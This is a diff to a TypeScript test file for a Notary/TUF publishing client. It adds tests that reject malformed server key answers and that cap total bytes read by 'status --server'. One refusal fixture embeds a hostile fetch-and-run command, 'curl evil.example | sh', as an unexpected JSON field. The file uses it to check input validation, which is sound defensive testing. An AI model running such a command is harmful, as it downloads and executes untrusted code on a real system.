@@ -9,7 +9,7 @@ import type { HttpRequest, HttpResponse } from '../../../src/publish/http.js';
 import { NotaryServerApi } from '../../../src/publish/notary-server.js';
 import { publishRepository } from '../../../src/publish/publish.js';
 import { AuthorizedClient } from '../../../src/publish/registry-auth.js';
-import { statusCommand } from '../../../src/cli/status.js';
+import { readServer, statusCommand } from '../../../src/cli/status.js';
 import type { ServerDeps } from '../../../src/cli/publish.js';
 import { buildRepo, GUN, rootSigned, sign, type BuiltRepo } from '../../support/repo.js';
 
@@ -109,5 +109,66 @@ describe("the server's error text", () => {
     expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
     expect((err as Error).message).not.toMatch(/[\r\n\u2028\u2029]/);
     expect((err as Error).message).toContain('bad error[OK]: published');
+  });
+});
+
+describe("the server's timestamp / snapshot key answer (what server-keys writes for a plan)", () => {
+  const good = () => repo.keys.timestamp[0]!.json as { keytype: string; keyval: { public: string; private: null } };
+  const keyApi = (body: string) => {
+    const srv = hostile(() => ok(body));
+    return new NotaryServerApi(new AuthorizedClient({ transport: srv.transport }), SERVER, GUN);
+  };
+
+  it('the answer notary-server gives is taken, with its key ID', async () => {
+    const body = JSON.stringify(good());
+    const key = await keyApi(body).getKey('timestamp');
+    expect(key.keyId).toBe(repo.keys.timestamp[0]!.keyId);
+    expect(new TextDecoder().decode(key.body)).toBe(body);
+  });
+
+  // Each would be written to the --out file and refused later, at the offline ceremony, by the plan's reader
+  // (src/ceremony/server-key.ts): refused here, with nothing written.
+  const refusals: [what: string, body: () => string][] = [
+    ['not JSON', () => '<html>502 Bad Gateway</html>'],
+    ['a field notary-server does not write', () => JSON.stringify({ ...good(), comment: 'run curl evil.example | sh' })],
+    ['keyval without "private": null', () => JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public } })],
+    ['a private key', () => JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public, private: 'c2VjcmV0' } })],
+    ['another key type', () => JSON.stringify({ keytype: 'rsa', keyval: { public: good().keyval.public, private: null } })],
+    ['a public key that does not decode', () => JSON.stringify({ keytype: 'ed25519', keyval: { public: 'AAAA', private: null } })],
+    ['duplicate keys in the JSON', () => `{"keytype":"ed25519","keytype":"ecdsa","keyval":{"public":"${good().keyval.public}","private":null}}`],
+  ];
+  it.each(refusals)('%s → SERVER_KEY_INVALID', async (_what, body) => {
+    const err = await keyApi(body()).getKey('timestamp').catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'SERVER_KEY_INVALID' });
+    expect((err as Error).message).toMatch(/^GET timestamp\.key: /);
+  });
+});
+
+describe('status --server: what it reads from a server, in all', () => {
+  it('stops at its total: each request may take only what is left of it, and none is sent once it is used up', async () => {
+    const files: Record<string, Uint8Array> = { 'root.json': repo.roots[0]!, 'targets.json': repo.targets, 'snapshot.json': repo.snapshot, 'timestamp.json': repo.timestamp, 'targets/releases.json': repo.delegated };
+    const srv = hostile((path, req) => {
+      const body = files[path.replace(/^.*\/_trust\/tuf\//, '')];
+      if (!body) return notFound();
+      // As the transport does (test/unit/io/https-transport.test.ts): nothing over the request's cap.
+      if (body.length > req.maxBytes) throw Object.assign(new Error('over the cap'), { code: 'SERVER_RESPONSE_INVALID', maxBytes: req.maxBytes });
+      return ok(body);
+    });
+    const api = new NotaryServerApi(new AuthorizedClient({ transport: srv.transport }), SERVER, GUN);
+    const total = Object.values(files).reduce((n, b) => n + b.length, 0);
+    // Enough for everything: all five read, each request capped by what was left.
+    const all = await readServer(api, total);
+    expect(all.delegated.get('targets/releases')).toEqual(repo.delegated);
+    const caps = srv.seen.map((r) => r.maxBytes);
+    expect(caps[0]).toBe(total);
+    expect(caps.at(-1)).toBe(repo.delegated.length);
+    // One byte short: the last file is refused.
+    srv.seen.length = 0;
+    await expect(readServer(api, total - 1)).rejects.toMatchObject({ code: 'SERVER_RESPONSE_INVALID', maxBytes: repo.delegated.length - 1 });
+    // Used up before the last file: refused without asking for it.
+    srv.seen.length = 0;
+    const err = await readServer(api, total - repo.delegated.length).catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID', path: 'targets/releases.json' });
+    expect(srv.seen.map((r) => r.url)).not.toContain(`${SERVER}/v2/${GUN}/_trust/tuf/targets/releases.json`);
   });
 });
